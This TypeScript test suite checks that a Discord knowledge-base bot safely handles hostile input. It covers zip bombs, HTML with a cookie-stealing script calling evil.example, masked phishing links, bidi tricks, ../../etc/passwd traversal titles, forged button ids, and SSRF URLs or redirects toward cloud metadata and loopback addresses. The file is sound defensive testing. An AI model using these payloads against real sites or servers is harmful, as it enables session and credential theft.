import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guildScope } from '../../src/core/documents/document.js';
import { makeDocx as makeDocxFixture } from '../fixtures/ingest/make-docx.js';
import { makeFlateBombPdf } from '../fixtures/ingest/make-pdf.js';
import { makeDocx } from './fixture-files.js';
import { customIds, expectEveryMessageSafe, expectReply, expectSafeMessage, MEMBER, MODERATOR, openWithTestFetch, startHarness, textOf, type Harness } from './bot-harness.js';

// Hostile input through Discord, as a moderator or member would send it: every case gets a clear message, nothing
// is half-added, nothing leaks, nobody is pinged (every message the bot sends is checked for allowed_mentions
// none and Discord's limits in afterAll). The table in docs/hostile-input.md lists each case with its test.
//
// URLs: the knowledge base resolves names with a table (no DNS, no traffic beyond loopback) and lets the fetcher
// reach exactly 127.0.0.1, where docs.footnote.test and the pages below live; every other address stays refused.
const NAMES: Record<string, string> = {
  'docs.footnote.test': '127.0.0.1',
  'metadata.footnote.test': '169.254.169.254',
  'intranet.footnote.test': '10.1.2.3',
  'linklocal6.footnote.test': 'fe80::1',
  'loopback6.footnote.test': '::1',
};
let pages: Server;
let port: number;
let h: Harness;
let host: string;

beforeAll(async () => {
  pages = createServer((req, res) => {
    const redirect = (location: string) => res.writeHead(302, { location }).end();
    switch (req.url) {
      case '/to-metadata':
        return redirect('http://metadata.footnote.test/latest/meta-data/iam/security-credentials/');
      case '/to-loopback':
        return redirect(`http://127.0.0.2:${port}/secret`);
      case '/to-v6-loopback':
        return redirect(`http://[::1]:${port}/secret`);
      case '/to-link-local':
        return redirect('http://linklocal6.footnote.test/');
      case '/slow':
        return; // never answers
      case '/endless': {
        res.writeHead(200, { 'content-type': 'text/plain' });
        const chunk = Buffer.alloc(64 * 1024, 0x61);
        const pump = () => {
          while (!res.destroyed && res.write(chunk));
          if (!res.destroyed) res.once('drain', pump);
        };
        return pump();
      }
      default:
        return res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    }
  });
  await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));
  port = (pages.address() as AddressInfo).port;
  host = `docs.footnote.test:${port}`;
  h = await startHarness({
    env: { MAX_DOCUMENT_BYTES: String(3 * 1024 * 1024), ASK_RATE_LIMIT: '100/10s' },
    openKnowledgeBase: openWithTestFetch({
      timeoutMs: 800,
      maxBytes: 512 * 1024,
      resolve: async (name) => {
        const address = NAMES[name];
        if (address === undefined) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
        return [{ address, family: address.includes(':') ? 6 : 4 }];
      },
    }),
  });
});
afterAll(async () => {
  expectEveryMessageSafe(h.fake);
  await h.close();
  pages.closeAllConnections();
  await new Promise<void>((resolve) => pages.close(() => resolve()));
});

const own = () => h.bot.context.kb.list([guildScope(h.fake.guild.id)]);
let askers = 0;

/** `/curate add` with a file as a moderator; the deferred reply's edit. */
async function addFile(filename: string, data: Buffer | Uint8Array | string, extra: { title?: string; size?: number } = {}) {
  const file = h.fake.addAttachment({ filename, data: typeof data === 'string' ? data : Buffer.from(data) });
  if (extra.size !== undefined) file.size = extra.size;
  const i = h.fake.chatInput('curate add', { file, ...(extra.title !== undefined && { title: extra.title }) }, MODERATOR);
  const edit = await i.waitForWebhook((w) => w.kind === 'editMessage', 15_000);
  expectSafeMessage(edit.body, 'edit');
  return edit.body;
}

async function addUrl(url: string) {
  const i = h.fake.chatInput('curate add', { url }, MODERATOR);
  const edit = await i.waitForWebhook((w) => w.kind === 'editMessage', 10_000);
  expectSafeMessage(edit.body, 'edit');
  return edit.body;
}

async function ask(question: string) {
  const cb = await h.fake.chatInput('ask', { question }, { user: { username: `hostile-${++askers}` } }).waitForCallback();
  expect(cb.elapsedMs).toBeLessThan(3000);
  return cb;
}

/** Runs `refusal`, then checks that it added nothing. */
async function refusedWithoutTrace(refusal: () => Promise<unknown>): Promise<void> {
  const before = own().map((d) => d.id);
  await refusal();
  expect(own().map((d) => d.id)).toEqual(before);
}

describe('files', () => {
  it('refuses an empty file, saying so, and adds nothing', async () => {
    await refusedWithoutTrace(async () => expect((await addFile('empty.txt', '')).content).toBe('"empty.txt" is empty.'));
  });

  it('refuses a file bigger than Discord said it was, counting the bytes as they arrive', async () => {
    await refusedWithoutTrace(async () =>
      expect((await addFile('liar.txt', 'x '.repeat(2 * 1024 * 1024), { size: 100 })).content).toBe('The attachment is larger than the 3 MB limit.'),
    );
  });

  it.each([
    ['a corrupt PDF', 'broken.pdf', () => Buffer.from('%PDF-1.7\ngarbage, not objects\n%%EOF\n'), /^The PDF is damaged and cannot be read/],
    ['a truncated DOCX', 'cut.docx', () => makeDocx(['Cut short']).subarray(0, 200), /damaged/],
    ['a text file with NUL bytes', 'nul.txt', () => Buffer.from('Some text\u0000 with a NUL byte.'), /NUL/],
  ])('refuses %s with a clear message', async (_what, filename, data, message) => {
    await refusedWithoutTrace(async () => {
      const body = await addFile(filename, data());
      expect(String(body.content)).toMatch(message);
      expect(body.embeds ?? []).toEqual([]);
    });
  });

  it('refuses a DOCX zip bomb before unpacking it', async () => {
    const bomb = makeDocxFixture({
      paragraphs: ['x'],
      override: (entries) => entries.map((e) => (e.name === 'word/document.xml' ? { ...e, data: ' '.repeat(10), method: 'deflate' as const, declaredSize: 0xfffffffe } : e)),
    });
    await refusedWithoutTrace(async () => expect(String((await addFile('bomb.docx', bomb)).content)).toMatch(/zip bomb/));
  });

  it('stops a PDF whose content stream inflates to 2 GB, and keeps answering meanwhile', async () => {
    const adding = addFile('bomb.pdf', makeFlateBombPdf(2048));
    // Extraction runs in a worker: the bot answers while the bomb is being defused.
    expect((await ask('What did the prosecution fail to present in the Kvasov trial?')).type).toBe(4);
    await refusedWithoutTrace(async () => expect(String((await adding).content)).toMatch(/more than 256 MB of memory/));
  }, 20_000);

  it('keeps only the readable text of HTML with scripts and megabytes of inline data', async () => {
    const blob = Buffer.alloc(1024 * 1024, 7).toString('base64');
    const html = `<html><head><title>Kelp forest survey</title><script>var payload = "scriptword zyxxyz"; fetch('https://evil.example/?' + document.cookie);</script>
      <style>body { background: url(data:image/png;base64,${blob}) }</style></head>
      <body><img src="data:image/png;base64,${blob}"><p onclick="alert(1)">The kelp forest survey counted 41 sea otters in the bay.</p>
      <p>${blob.slice(0, 200_000)}</p></body></html>`;
    const body = await addFile('survey.html', html);
    expect(body.embeds![0]!.title).toBe('Added: Kelp forest survey');
    const doc = h.bot.context.kb.document([guildScope(h.fake.guild.id)], 'kelp-forest-survey')!;
    const text = doc.passages.map((p) => p.text).join('\n');
    expect(text).toContain('41 sea otters');
    expect(text).not.toMatch(/zyxxyz|document\.cookie|alert|base64/);
    expect(text.length).toBeLessThan(5000);
    expect(textOf((await ask('zyxxyz scriptword')).data)).toContain("don't cover this question");
  });

  it('adds a document of one 300,000-character line and a 100,000-character token, and quotes it within Discord’s limits', async () => {
    const line = Array.from({ length: 30_000 }, (_, n) => `w${n % 97}rd`).join(' ');
    const text = `Endless line notes\n\nThe marmot burrow is lined with moss. ${line} ${'q'.repeat(100_000)} The marmot sleeps through winter.\n`;
    const body = await addFile('endless.txt', text);
    expect(body.embeds![0]!.title).toBe('Added: Endless line notes');
    const cb = await ask('Where does the marmot sleep in winter?');
    expectReply(cb, 'public');
    expect(textOf(cb.data)).toContain('marmot');
  });
});

describe('text that tries to take over the display', () => {
  it('answers a question full of mentions and markdown without pinging anyone or rendering it', async () => {
    const question = '@everyone <@&123456789012345678> <@987654321098765432> **why** did the `prosecution` fail in the ||Kvasov|| trial? [click](https://evil.example) # heading';
    const data = expectReply(await ask(question), 'public');
    expect(data.allowed_mentions).toEqual({ parse: [] });
    expect(data.embeds![0]!.title).toBe(
      '@everyone <@&123456789012345678> <@987654321098765432> \\*\\*why\\*\\* did the \\`prosecution\\` fail in the \\|\\|Kvasov\\|\\| trial? \\[click\\](https://evil.example) # heading',
    );
  });

  it('shows a document’s masked links and mentions as text, not as links or pings', async () => {
    // Plain text keeps the link syntax as typed: it is shown escaped, never as a link.
    await addFile('phish.txt', 'Prize notes\n\nThe albatross prize goes to [the winner](https://evil.example/steal) and @everyone <@&1234> in the hall.\n');
    const data = expectReply(await ask('Who gets the albatross prize?'), 'public');
    const description = String(data.embeds![0]!.description);
    expect(description).toContain('\\[the winner\\](https://evil.example/steal)');
    expect(description).toContain('@everyone <@&1234>');
    expect(data.allowed_mentions).toEqual({ parse: [] });
    // Markdown is read as Markdown: the link keeps its label and its URL is neither quoted nor indexed.
    await addFile('phish.md', '# Pelican notes\n\nThe pelican prize goes to [the runner-up](https://evil.example/steal) and @everyone <@&1234> in the hall.\n');
    const md = String(expectReply(await ask('Who gets the pelican prize?'), 'public').embeds![0]!.description);
    expect(md).toContain('The pelican prize goes to the runner-up and @everyone <@&1234> in the hall.');
    expect(md).not.toContain('evil.example');
  });

  it('drops bidi overrides and caps zalgo marks where it displays text; the text stays searchable', async () => {
    const zalgo = (w: string) => [...w].map((c) => `${c}\u0336\u0322\u0327\u031b\u0324\u0317\u031e\u034e\u0338`).join('');
    const body = await addFile('bidi.txt', `Lagoon notes\n\nThe ${zalgo('quokka')} lagoon \u202Eopens at nine\u202C every morning.\n`, { title: 'Lagoon \u202Egnp.exe\u202C notes' });
    expect(body.embeds![0]!.title).toBe('Added: Lagoon gnp.exe notes');
    const data = expectReply(await ask(`When does the ${zalgo('quokka')} lagoon \u202Eopen?`), 'public');
    const shown = JSON.stringify(data.embeds);
    expect(shown).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(shown).not.toMatch(/\p{M}{5}/u);
    expect(String(data.embeds![0]!.description)).toContain('opens at nine');
  });

  it('answers questions with NUL bytes, control characters and a single 4,000-character token without failing', async () => {
    expect(String(expectReply(await ask('Who is\u0000 Denis\u0007 Kvasov?'), 'public').embeds![0]!.description)).toContain('Kvasov');
    const long = await ask('z'.repeat(4000));
    expect(long.type).toBe(4);
    expect(String(long.data.content ?? textOf(long.data))).not.toMatch(/something went wrong/);
  });
});

describe('names and ids that try to reach elsewhere', () => {
  it('makes a file-name-safe id of a title full of path tricks, and keeps the title as text', async () => {
    const body = await addFile('paths.txt', 'Path notes\n\nThe pelican roost is on the pier.\n', { title: '../../etc/passwd\\..\\win.ini' });
    const id = /Id\n`([^`]+)`/.exec(textOf(body))![1]!;
    expect(id).toBe('etc-passwd-win-ini');
    expect(own().find((d) => d.id === id)!.title).toBe('../../etc/passwd\\..\\win.ini');
  });

  it.each(['../../etc/passwd', 'here:../../etc/passwd', '/etc/passwd', 'shared:..', '%2e%2e%2fsecret'])('finds no document for %j', async (value) => {
    const data = expectReply(await h.fake.chatInput('docs show', { document: value }, MEMBER).waitForCallback(), 'ephemeral');
    expect(data.content).toMatch(/^There is no document “.+” in this server\./);
  });

  it.each(['rm:yes:../../etc/passwd', 'rm:yes:', 'ans:../../x:src:1', 'docs:page:../1'])('ignores a forged button %j', async (customId) => {
    const data = expectReply(await h.fake.button(customId, MODERATOR).waitForCallback(), 'ephemeral');
    expect(data.content).toBe('This button belongs to an older version of footnote; run the command again.');
  });
});

describe('URLs that point inside', () => {
  const refused = (name: string) => `footnote does not fetch from ${name}: it points to a private/loopback address, not a public web server.`;

  it.each([
    ['the cloud metadata address', 'http://169.254.169.254/latest/meta-data/', '169.254.169.254'],
    ['an IPv6 link-local address', 'http://[fe80::1]/', '[fe80::1]'],
    ['an IPv6 unique-local address', 'http://[fd00::1]:8080/admin', '[fd00::1]'],
    ['the IPv4-mapped IPv6 form of loopback', 'http://[::ffff:127.0.0.2]/', '[::ffff:7f00:2]'],
    ['another loopback address', 'http://127.0.0.2/', '127.0.0.2'],
  ])('refuses %s given directly', async (_what, url, name) => {
    await refusedWithoutTrace(async () => expect((await addUrl(url)).content).toBe(refused(name)));
  });

  it.each([
    ['the metadata address', 'metadata.footnote.test'],
    ['an IPv6 link-local address', 'linklocal6.footnote.test'],
    ['IPv6 loopback', 'loopback6.footnote.test'],
  ])('refuses a name that resolves to %s, without saying which address', async (_what, name) => {
    await refusedWithoutTrace(async () => {
      const body = await addUrl(`http://${name}/`);
      expect(body.content).toBe(refused(name));
      expect(body.content).not.toMatch(/169\.254|fe80|::1/);
    });
  });

  it.each([
    ['the metadata address', '/to-metadata', 'metadata.footnote.test'],
    ['another loopback address', '/to-loopback', '127.0.0.2'],
    ['IPv6 loopback', '/to-v6-loopback', '[::1]'],
    ['a name that resolves to link-local', '/to-link-local', 'linklocal6.footnote.test'],
  ])('refuses a redirect to %s', async (_what, path, name) => {
    await refusedWithoutTrace(async () => expect((await addUrl(`http://${host}${path}`)).content).toBe(refused(name)));
  });

  it('gives up on a server that never answers, within the fetch timeout', async () => {
    await refusedWithoutTrace(async () => expect((await addUrl(`http://${host}/slow`)).content).toBe(`${host} did not deliver the document within 0.8 s.`));
  });

  it('cuts off a response that never ends at the size limit', async () => {
    await refusedWithoutTrace(async () =>
      expect((await addUrl(`http://${host}/endless`)).content).toBe(`footnote fetches documents up to 512 KB; the one at ${host} is larger than that.`),
    );
  });

  it('still answers after all of it', async () => {
    const data = expectReply(await ask('What did the prosecution fail to present in the Kvasov trial?'), 'public');
    expect(customIds(data).length).toBeGreaterThan(0);
  });
});
